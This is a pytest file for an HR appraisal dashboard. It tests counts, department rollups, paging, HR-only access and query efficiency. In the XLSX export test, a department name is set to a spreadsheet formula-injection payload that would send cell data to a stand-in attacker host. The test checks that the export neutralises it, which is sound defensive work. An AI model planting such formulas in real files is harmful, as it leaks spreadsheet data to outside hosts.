"""Issue 18: HR's organization dashboard. Its numbers equal hand counts and the calibration
page's; a department filter means the department and everything below it; the people behind
a bar are paginated; every endpoint is HR's alone (another organization's ids are 404s); the
number of statements does not grow with the number of appraisals."""

from __future__ import annotations

import io
import json
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import event, select

from appraisal.models import Appeal, Appraisal, Cycle, Department
from appraisal.runtime.calibration import calibration
from appraisal.runtime.dashboards import organization
from appraisal.runtime.dashboards.organization import PeopleFilter
from bench.dashboards import build_organization
from tests.runtime.conftest import appraisal_of
from tests.runtime.test_reviews import as_user

# who: (department, state, total, computed grade, calibrated grade)
PEOPLE = {
    "ann": ("north", "published", "96.00", "S", None),
    "pat": ("north", "acknowledged", "88.00", "A", None),
    "quinn": ("sales", "calibration", "75.50", "B", "A"),
    "bo": ("sales", "manager_review", None, None, None),
    "olga": ("ops", "goal_setting", None, None, None),
    "oscar": ("ops", "self_review", None, None, None),
}
KEYS = (
    "funnel",
    "states_by_department",
    "completion",
    "grades",
    "department_totals",
    "department_grades",
    "trend_totals",
    "trend_grades",
    "appeal_rate",
)


@pytest.fixture
def org_cycle(db, company, launched):
    """Sales (with North below it) and Ops; the appraisals spread over the steps; an appeal
    on Ann's published result; quotas S ≤ 20 %, C+D ≥ 10 %."""
    sales = Department(organization_id=company.org.id, name="Sales")
    ops = Department(organization_id=company.org.id, name="Ops")
    db.add_all([sales, ops])
    db.flush()
    north = Department(organization_id=company.org.id, name="North", parent_id=sales.id)
    db.add(north)
    db.flush()
    departments = {"sales": sales, "ops": ops, "north": north}
    for key, (department, state, total, grade, override) in PEOPLE.items():
        company.people[key].department_id = departments[department].id
        appraisal = appraisal_of(db, company, key)
        appraisal.state = state
        appraisal.total = Decimal(total) if total else None
        appraisal.grade, appraisal.override_grade = grade, override
    launched.quotas = [
        {"grades": ["S"], "limit": "max", "percent": 20.0},
        {"grades": ["C", "D"], "limit": "min", "percent": 10.0},
    ]
    db.add(
        Appeal(
            organization_id=company.org.id,
            appraisal_id=appraisal_of(db, company, "ann").id,
            reason="Figures",
        )
    )
    db.commit()
    return launched, departments


def _board(db, company, cycle, department=None):
    hr = company.viewer(db, "hr@acme.example")
    filters = organization.filters_for(db, hr, cycle.id, department)
    return organization.organization_dashboard(db, filters, _link, today=date(2026, 10, 20))


def _link(**args) -> str:
    return "/people?" + "&".join(f"{k}={v}" for k, v in sorted(args.items()) if v is not None)


def _values(chart, series=0):
    return dict(zip(chart.labels, chart.series[series].values, strict=True))


def test_numbers_equal_hand_counts_and_the_calibration_page(db, company, org_cycle):
    cycle, _departments = org_cycle
    board = _board(db, company, cycle)
    funnel = board.charts.get("funnel")
    assert funnel.labels == [
        "Goal setting",
        "Self-review",
        "Manager review",
        "Calibration",
        "Published",
        "Acknowledged",
    ]
    assert funnel.series[0].values == [1, 1, 1, 1, 1, 1]
    assert funnel.series[0].drill[3].endswith("state=calibration")

    by_department = board.charts.get("states_by_department")
    assert by_department.labels == ["Ops", "Sales"]  # North rolls up into Sales
    sales_states = {s.name: s.values[1] for s in by_department.series}
    assert sales_states == {
        "Goal setting": None,
        "Self-review": None,
        "Manager review": 1,
        "Calibration": 1,
        "Published": 1,
        "Acknowledged": 1,
    }
    # 2 of Sales' 4 are published; none of Ops' 2
    assert _values(board.charts.get("completion")) == {
        "Ops": Decimal("0.0"),
        "Sales": Decimal("50.0"),
    }
    assert board.summary.completion == Decimal("33.3") and board.summary.done == 2

    # final grades S, A, A (Quinn calibrated from B): the calibration page's own numbers
    overall = calibration.distributions(db, cycle)[0]
    grades = board.charts.get("grades")
    shares = _values(grades)
    assert board.grade_counts == overall.counts == {"S": 1, "A": 2, "B": 0, "C": 0, "D": 0}
    assert {g: shares[g] for g in overall.shares} == overall.shares
    assert shares["S"] == Decimal("33.3") and shares["C+D"] == Decimal("0.0")
    assert _values(grades, 1)["S"] == Decimal("20.0")  # the quota beside the share
    assert _values(grades, 2)["C+D"] == Decimal("10.0")
    assert board.violations == overall.violations == ["S ≤ 20%: 33.3%", "C+D ≥ 10%: 0%"]
    same = calibration.grades_chart(
        overall, calibration.grade_names(cycle), calibration.quotas_of(cycle)
    )
    assert [s.values for s in same.series] == [s.values for s in grades.series]

    # average of the stored totals: (96 + 88 + 75.5) / 3 = 86.50
    assert board.summary.average == Decimal("86.50")
    assert _values(board.charts.get("department_totals")) == {
        "Ops": None,
        "Sales": Decimal("86.50"),
    }
    mix = board.charts.get("department_grades")
    assert {s.name: s.values[1] for s in mix.series}["A"] == Decimal("66.7")

    trend = board.charts.get("trend_totals")
    assert trend.labels == [cycle.name] and trend.series[0].values == [Decimal("86.50")]
    # one appeal over two published results
    assert board.charts.get("appeal_rate").series[0].values == [Decimal("50.0")]


def test_the_calibration_page_draws_the_same_grades_chart(client, auth, db, company, org_cycle):
    cycle, _departments = org_cycle
    as_user(auth, "hr@acme.example")
    page = client.get(f"/cycles/{cycle.id}/calibration").text
    spec = client.get(f"/dashboards/organization/grades.json?cycle={cycle.id}").get_json()
    on_page = json.loads(
        page.split('id="chart-grades"')[1].split('class="chart-data">')[1].split("</script>")[0]
    )
    assert on_page["labels"] == spec["labels"] == ["S", "A", "B", "C", "D", "C+D"]
    assert [s["values"] for s in on_page["series"]] == [s["values"] for s in spec["series"]]


def test_a_department_means_its_whole_subtree(db, company, org_cycle):
    cycle, departments = org_cycle
    sales = _board(db, company, cycle, departments["sales"].id)
    assert sales.summary.appraisals == 4
    by_department = sales.charts.get("states_by_department")
    assert by_department.labels == ["Sales", "North"]  # directly in Sales, then below it
    drill = by_department.series[2].drill[0]  # Bo, manager review, directly in Sales
    assert "direct=1" in drill and f"department={departments['sales'].id}" in drill
    north = _board(db, company, cycle, departments["north"].id)
    assert north.summary.appraisals == 2 and north.grade_counts["S"] == 1
    assert _board(db, company, cycle, departments["ops"].id).summary.average is None


def test_only_hr_gets_the_filters(db, company, org_cycle):
    cycle, _departments = org_cycle
    for email in ("boss@acme.example", "ann@acme.example", "imp@acme.example"):
        with pytest.raises(organization.NotFound):
            organization.filters_for(db, company.viewer(db, email), cycle.id, None)


def test_the_overdue_list_uses_the_cycles_deadlines(db, company, org_cycle):
    cycle, _departments = org_cycle  # goals were due on 2026-10-15
    board = _board(db, company, cycle)
    assert [a.employee.name for a in board.overdue.items] == ["Olga"]
    assert board.summary.overdue == 1
    assert organization.deadline(board.overdue.items[0], board.filters) == date(2026, 10, 15)


def test_people_behind_a_bar_are_paged(client, auth, db, company, org_cycle, monkeypatch):
    cycle, departments = org_cycle
    monkeypatch.setattr(organization, "PER_PAGE", 2)
    as_user(auth, "hr@acme.example")
    base = f"/dashboards/organization/people?cycle={cycle.id}"
    first = client.get(base).text
    third = client.get(base + "&page=3").text
    assert first.count("data-employee=") == 2 and third.count("data-employee=") == 2
    assert 'data-employee="B001"' in first and 'data-employee="Q001"' in third
    page = client.get(base + "&grade=A").text
    assert 'data-employee="P001"' in page and 'data-employee="Q001"' in page
    assert 'data-employee="A001"' not in page
    page = client.get(base + f"&department={departments['sales'].id}&direct=1").text
    assert 'data-employee="B001"' in page and 'data-employee="A001"' not in page
    ann = appraisal_of(db, company, "ann")
    page = client.get(base + "&state=published").text
    assert f'href="/appraisals/{ann.id}"' in page
    hr = company.viewer(db, "hr@acme.example")
    filters = organization.filters_for(db, hr, cycle.id, None)
    assert organization.people_page(db, filters, PeopleFilter(step="goal_setting")).total == 1


def test_the_department_report_prints_summary_distribution_and_people(
    client, auth, db, company, org_cycle
):
    cycle, departments = org_cycle
    as_user(auth, "hr@acme.example")
    page = client.get(
        f"/dashboards/organization/report?cycle={cycle.id}&department={departments['sales'].id}"
    ).text
    assert "Department report: Sales" in page and "print.css" in page
    assert 'id="summary-appraisals">4<' in page and 'id="summary-average">86.50<' in page
    assert page.count("data-employee=") == 4 and 'data-employee="O001"' not in page
    comparison = page.split('id="comparison-table"')[1].split("</table>")[0]
    assert "North" in comparison and "directly in it" in comparison
    assert " style=" not in page


ENDPOINTS = [
    "/dashboards/organization",
    "/dashboards/organization/people",
    "/dashboards/organization/report",
    *(f"/dashboards/organization/{key}.{fmt}" for key in KEYS for fmt in ("json", "xlsx")),
]


@pytest.mark.parametrize("path", ENDPOINTS)
def test_every_endpoint_is_for_hr_only(client, auth, db, make, company, org_cycle, path):
    cycle, departments = org_cycle
    query = f"?cycle={cycle.id}&department={departments['sales'].id}"
    assert client.get(path + query).status_code == 302  # anonymous: to the sign-in page
    for email in ("boss@acme.example", "ann@acme.example", "imp@acme.example"):
        as_user(auth, email)
        assert client.get(path + query).status_code == 403, email
    as_user(auth, "hr@acme.example")
    assert client.get(path + query).status_code == 200
    assert client.get(path).status_code == 200  # the latest cycle, everyone

    other = make.org("other", "Other")
    foreign_department = Department(organization_id=other.id, name="Theirs")
    foreign_cycle = Cycle(
        organization_id=other.id,
        scheme_id=cycle.scheme_id,
        name="Theirs",
        starts_on=cycle.starts_on,
        ends_on=cycle.ends_on,
    )
    db.add_all([foreign_department, foreign_cycle])
    db.commit()
    for bad in (
        f"?cycle={foreign_cycle.id}",
        f"?cycle={cycle.id}&department={foreign_department.id}",
        "?cycle=abc",
        "?department=1e3",
        "?cycle=²",  # a digit to str.isdigit, not to int(): once a 500
    ):
        assert client.get(path + bad).status_code == 404, bad


def test_unknown_chart_or_state_is_a_404(client, auth, org_cycle):
    cycle, _departments = org_cycle
    auth.login("hr@acme.example")
    assert client.get(f"/dashboards/organization/nope.json?cycle={cycle.id}").status_code == 404
    people = f"/dashboards/organization/people?cycle={cycle.id}&state=nope"
    assert client.get(people).status_code == 404


def test_xlsx_export_holds_the_charts_numbers_and_no_live_formula(client, auth, db, org_cycle):
    cycle, departments = org_cycle
    departments["ops"].name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    db.commit()
    auth.login("hr@acme.example")
    response = client.get(f"/dashboards/organization/funnel.xlsx?cycle={cycle.id}")
    sheet = load_workbook(io.BytesIO(response.data)).active
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert ["Goal setting", 1] in [r[:2] for r in rows]
    response = client.get(f"/dashboards/organization/states_by_department.xlsx?cycle={cycle.id}")
    cells = [c for row in load_workbook(io.BytesIO(response.data)).active.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert departments["ops"].name in {c.value for c in cells}  # shown as typed, as text


def _statements(client, paths):
    counted = []

    def count(*_args):
        counted.append(1)

    engine = client.application.extensions["appraisal.engine"]
    found = {}
    event.listen(engine, "before_cursor_execute", count)
    try:
        for path in paths:
            counted.clear()
            assert client.get(path).status_code == 200, path
            found[path.split("?")[0]] = len(counted)
    finally:
        event.remove(engine, "before_cursor_execute", count)
    return found


def test_statement_count_does_not_grow_with_the_appraisals(client, db):
    """The same organization shape at 10 and at 100 employees: the dashboard, the people
    list and the report take exactly as many statements (grouped queries, no N+1)."""
    counts = []
    for people, slug in ((10, "ten"), (100, "hundred")):
        data = build_organization(db, people=people, slug=slug)
        db.commit()
        client.post("/logout")
        client.post(
            "/login", data={"email": data.logins["hr"], "password": "bench-dashboard-password"}
        )
        cycle = data.running_cycle_id
        counts.append(
            _statements(
                client,
                [
                    f"/dashboards/organization?cycle={cycle}",
                    f"/dashboards/organization?cycle={cycle}&department={data.division_id}",
                    f"/dashboards/organization/people?cycle={cycle}&state=self_review",
                    f"/dashboards/organization/report?cycle={cycle}",
                    f"/dashboards/organization/grades.json?cycle={cycle}",
                ],
            )
        )
    assert counts[0] == counts[1], counts
    assert db.scalar(select(Appraisal.id).where(Appraisal.cycle_id == cycle)) is not None
